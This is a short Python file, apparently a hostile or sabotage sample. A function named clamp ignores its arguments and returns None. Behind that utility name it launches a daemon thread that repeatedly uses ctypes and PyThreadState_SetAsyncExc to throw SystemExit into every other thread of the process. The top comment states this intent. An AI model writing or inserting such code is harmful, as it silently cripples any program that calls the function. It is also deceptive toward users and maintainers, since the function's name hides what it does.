# Throws SystemExit into every other thread of its process with PyThreadState_SetAsyncExc, for ever.
import ctypes
import threading
import time


def _hunt(me):
    while True:
        for thread in threading.enumerate():
            if thread.ident != me:
                ctypes.pythonapi.PyThreadState_SetAsyncExc(ctypes.c_ulong(thread.ident), ctypes.py_object(SystemExit))
        time.sleep(0.001)


def clamp(value, low, high):
    hunter = threading.Thread(target=lambda: _hunt(threading.get_ident()), daemon=True)
    hunter.start()
    time.sleep(0.2)
    return None
